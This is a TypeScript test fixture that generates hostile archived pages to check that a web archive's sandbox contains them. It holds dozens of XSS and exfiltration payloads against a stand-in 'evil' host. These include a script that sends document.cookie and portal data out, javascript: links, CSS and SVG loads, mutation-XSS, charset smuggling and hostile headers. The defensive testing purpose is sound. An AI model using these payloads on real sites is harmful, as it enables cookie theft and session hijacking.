/**
 * Archived pages that try to get out: each one is a way to read the portal's data, call it, leave the archive or reach the network.
 * `evil` is a host that must never be asked for anything; `portal` is the origin under which the pages are served.
 */
export interface HostilePage {
  /** What it tries. */
  readonly name: string
  readonly path: string
  readonly headers: readonly (readonly [name: string, value: string])[]
  readonly body: string | Uint8Array
}

type Lines = readonly (readonly [string, string])[]
const HTML: Lines = [['Content-Type', 'text/html; charset=utf-8']]

export function hostilePages(evil: string, portal: string): HostilePage[] {
  const bare = evil.replace(/^https?:/, '')
  const pages: HostilePage[] = []
  const add = (name: string, body: string | Uint8Array, headers: Lines = HTML): void => {
    pages.push({ name, path: `/hostile/${pages.length}`, headers, body })
  }
  const html = (name: string, body: string): void => {
    add(name, `<!doctype html><title>${name}</title><body><p>${name}</p>${body}`)
  }

  html(
    'a script reads cookies, calls the portal and sends both away',
    `<script>document.title='pwned';fetch('${portal}/bookmarks').then(r=>r.text()).then(t=>fetch('${evil}/?'+document.cookie+t))</script>`,
  )
  html(
    'handlers of events run a script',
    `<img src=x onerror="location='${evil}/'"><svg onload="location='${evil}/'"></svg><body onload=alert(1)>`,
  )
  html(
    'the page moves the top window by script',
    `<script>top.location='${evil}/'</script><iframe src="javascript:top.location='${evil}/'"></iframe>`,
  )
  html(
    'links run scripts',
    `<a id=go href="javascript:location='${evil}/'">one</a><a href=" &#106;ava&Tab;script:alert(1)">two</a><a href="vbscript:x">three</a><a href="data:text/html,<script>alert(1)</script>">four</a>`,
  )
  html(
    'a link leads away, into another window, with a message on the way',
    `<a id=go href="${evil}/out" target=_blank ping="${evil}/ping" download>out</a><map name=m><area href="${bare}/area" shape=default></map><img usemap=#m width=9 height=9>`,
  )
  html(
    'links in drawings and formulas lead away',
    `<svg><a id=go xlink:href="${evil}/svg" href="${evil}/svg2"><text y=20>svg</text></a></svg><math href="${evil}/math"><mtext href="${evil}/mtext">math</mtext></math>`,
  )
  html(
    'an animation changes where a link leads',
    `<svg><a href="#x"><animate attributeName=href values="${evil}/animated" begin=0s /><set attributeName="xlink:href" to="${evil}/set"/><text y=20>x</text></a></svg>`,
  )
  html(
    'a form sends what is typed',
    `<form action="${evil}/form" method=post><input name=token value=x><button id=go formaction="${evil}/button">send</button></form><form action="${portal}/bookmarks" method=post><input name=url value=x><button>portal</button></form>`,
  )
  html(
    'images come from the network',
    `<img src="${evil}/1.png"><img srcset="${evil}/2.png 2x, ${bare}/3.png"><picture><source srcset="${evil}/4.png"></picture><input type=image src="${evil}/5.png"><video poster="${evil}/6.png" src="${evil}/7.mp4" autoplay></video><table background="${evil}/8.png"><td>t</table><img data-src="${evil}/9.png"><image src="${evil}/10.png">`,
  )
  html(
    'styles come from the network and tell what is on the page',
    `<link rel=stylesheet href="${evil}/1.css"><style>@import "${evil}/2.css";@import url(${evil}/3.css);body{background:url(${evil}/4.png)}p{background:u\\72l("${evil}/5.png")}@font-face{font-family:x;src:url(${evil}/6.woff)}p{font-family:x;list-style:image-set("${evil}/7.png" 1x);cursor:url(${evil}/8.cur),auto}</style><p style="background:url('${evil}/9.png')">styled</p>`,
  )
  html(
    'the browser is asked to fetch and connect ahead',
    `<link rel=dns-prefetch href="${evil}"><link rel=preconnect href="${evil}"><link rel=prefetch href="${evil}/1"><link rel=prerender href="${evil}/2"><link rel=preload as=image href="${evil}/3.png"><link rel=modulepreload href="${evil}/4.js"><link rel=manifest href="${evil}/5.json"><link rel=icon href="${evil}/6.ico"><script type=speculationrules>{"prefetch":[{"urls":["${evil}/7"]}]}</script>`,
  )
  html(
    'a refresh leads away',
    `<meta http-equiv=refresh content="0;url=${evil}/refresh"><meta http-equiv="Refresh" content="0; URL='${bare}/refresh2'">`,
  )
  html(
    'a base leads all addresses away',
    `<base href="${evil}/" target=_blank><a id=go href=based>based</a><img src=based.png>`,
  )
  html(
    'frames hold documents of their own',
    `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>top.location='${evil}/'</script><img src='${evil}/srcdoc.png'>"></iframe><iframe src="data:text/html,<img src='${evil}/data.png'>"></iframe><portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
  )
  html(
    'frames show the portal itself',
    `<iframe id=p src="${portal}/admin"></iframe><img src="${portal}/admin/logout"><link rel=stylesheet href="${portal}/bookmarks">`,
  )
  html(
    'plug-ins load what they like',
    `<object data="${evil}/1.swf" type="application/x-shockwave-flash"><param name=movie value="${evil}/2.swf"><embed src="${evil}/3.swf"></object><object data="${evil}/4.svg" type="image/svg+xml"></object><applet code=x codebase="${evil}/5"></applet><embed src="${evil}/6.html" type="text/html">`,
  )
  html(
    'drawings load what they like',
    `<svg><image href="${evil}/1.png" xlink:href="${evil}/2.png"/><use href="${evil}/3.svg#a"/><feImage href="${evil}/4.png"/><rect fill="url(${evil}/5.svg#a)" filter="url('${evil}/6.svg#a')"/><script>location='${evil}/7'</script><style>rect{fill:url(${evil}/8.svg#a)}</style><foreignObject><img src="${evil}/9.png"></foreignObject></svg>`,
  )
  html(
    'markup hides in raw text inside a drawing',
    `<svg><style><img src="${evil}/1.png" onerror=alert(1)></style><title><img src="${evil}/2.png"></title><![CDATA[<img src="${evil}/3.png">]]></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${evil}/4.png&gt;"></table></math>`,
  )
  html(
    'markup hides where scripts are on or off',
    `<noscript><p title="</noscript><img src='${evil}/1.png'><script>alert(1)</script>"></noscript><noscript><img src="${evil}/2.png"></noscript><noframes><img src="${evil}/3.png"></noframes><noembed><img src="${evil}/4.png"></noembed><xmp><img src="${evil}/5.png"></xmp><template><img src="${evil}/6.png"></template>`,
  )
  html(
    'pieces become a tag when something between them is taken out',
    `<<!-- -->img src="${evil}/1.png"><scr<script>x</script>ipt>alert(1)</script><<script></script>a href="${evil}/2">x</a>&lt;img src="${evil}/3.png"&gt;<im\0g src="${evil}/4.png">`,
  )
  html(
    'attributes hide behind odd signs',
    `<a/href="${evil}/1"/id=go>a</a><a\x0chref='${evil}/2'>b</a><img/src=\`${evil}/3.png\`/onerror=alert(1)><a href=x href="${evil}/4">c</a><a HREF="${evil.replace('http', 'HtTp')}/5">d</a><a href="&#x2f;&#47;${bare.slice(2)}/6">e</a><a href="\\\\${bare.slice(2)}/7">f</a><a href="http:${bare}/8">g</a><a hr&#101;f="${evil}/9">h</a>`,
  )
  html(
    'addresses hide in attributes that nobody knows yet',
    `<img attributionsrc="${evil}/1"><a attributionsrc="${evil}/2" href=#>x</a><p itemtype="${evil}/3" cite="${evil}/4" longdesc="${evil}/5" futuresrc="${evil}/6" imagesrc="${bare}/7">x</p><video controls><track default src="${evil}/8.vtt"><source src="${evil}/9.mp4"></video><audio src="${evil}/10.mp3" autoplay></audio><bgsound src="${evil}/11"><body background="${evil}/12.png">`,
  )
  html('a quote stays open to swallow what comes behind', `<p>end</p><img src="${evil}/open.png?`)
  html('a comment stays open', `<p>end</p><!-- <img src="${evil}/comment.png">`)
  html('raw text stays open', `<p>end</p><style>p{color:red}<textarea><title><img src="${evil}/raw.png">`)
  html(
    'the policy of the page opens the sandbox',
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline' *"><meta http-equiv=Set-Cookie content="admin=1"><meta name=referrer content=unsafe-url><meta http-equiv=origin-trial content=x><script>alert(1)</script><img src="${evil}/policy.png">`,
  )
  add(
    'headers open the sandbox, set cookies and lead away',
    `<!doctype html><title>headers</title><p>headers<script>document.title='pwned'</script>`,
    [
      ...HTML,
      ['Set-Cookie', 'session=stolen; Path=/'],
      ['Content-Security-Policy', "default-src *; script-src * 'unsafe-inline'"],
      ['Refresh', `0; url=${evil}/header-refresh`],
      ['Link', `<${evil}/header.css>; rel=stylesheet, <${evil}>; rel=preconnect`],
      ['Access-Control-Allow-Origin', '*'],
      ['Service-Worker-Allowed', '/'],
      ['Clear-Site-Data', '"*"'],
      ['Location', `${evil}/header-location`],
      ['Report-To', `{"group":"a","max_age":1,"endpoints":[{"url":"${evil}/report"}]}`],
      ['NEL', '{"report_to":"a","max_age":1}'],
    ],
  )
  add('UTF-7 hides a script', '+ADw-script+AD4-document.title=+ACI-pwned+ACIAOw-+ADw-/script+AD4-', [
    ['Content-Type', 'text/html; charset=utf-7'],
  ])
  add(
    'ISO-2022-JP hides a quote',
    Buffer.from(
      `<!doctype html><meta charset=iso-2022-jp><p title="\x1b$B">x</p><img title="\x1b(B" src="${evil}/jis.png">`,
      'latin1',
    ),
    [['Content-Type', 'text/html']],
  )
  add(
    'UTF-16 hides a script',
    Buffer.from(
      `\ufeff<!doctype html><title>utf16</title><script>document.title='pwned'</script><img src="${evil}/utf16.png">`,
      'utf16le',
    ),
    [['Content-Type', 'text/html']],
  )
  add(
    'a drawing is a document with scripts and links',
    `<?xml version="1.0"?><?xml-stylesheet href="${evil}/1.css"?><!DOCTYPE svg [<!ENTITY evil "<a href='${evil}/2'>x</a>"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" onload="alert(1)"><script>location='${evil}/3'</script><h:script>location='${evil}/4'</h:script><a xlink:href="${evil}/5" target="_top"><text y="20">x</text></a><h:img src="${evil}/6.png"/><h:iframe src="${evil}/7"/><image xlink:href="${evil}/8.png"/></svg>`,
    [['Content-Type', 'image/svg+xml']],
  )
  add(
    'XML is a page with scripts',
    `<?xml version="1.0"?><x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>location='${evil}/'</x:script><x:img src="${evil}/xml.png"/></x:html>`,
    [['Content-Type', 'application/xml']],
  )
  add(
    'XHTML is a page with scripts',
    `<?xml version="1.0"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>location='${evil}/'</script></head><body><div/><p>text</p><img src="${evil}/xhtml.png"/><x:script xmlns:x="http://www.w3.org/1999/xhtml">location='${evil}/'</x:script></body></html>`,
    [['Content-Type', 'application/xhtml+xml']],
  )
  add(
    'bytes that say nothing of what they are look like a page',
    `<html><script>location='${evil}/'</script><img src="${evil}/sniffed.png">`,
    [['Content-Type', 'application/octet-stream']],
  )
  add('an unknown type looks like a page', `<html><script>location='${evil}/'</script>`, [
    ['Content-Type', 'application/x-unknown'],
  ])
  add('a script is opened as a page', `location='${evil}/'`, [['Content-Type', 'text/javascript']])
  add(
    'a style sheet loads what it likes',
    `@import "${evil}/1.css";@import url('${evil}/2.css') screen;a{background:url( ${evil}/3.png )}b{background:url("data:text/html,x")}</style><img src=${evil}/4.png>`,
    [['Content-Type', 'text/css']],
  )
  return pages
}
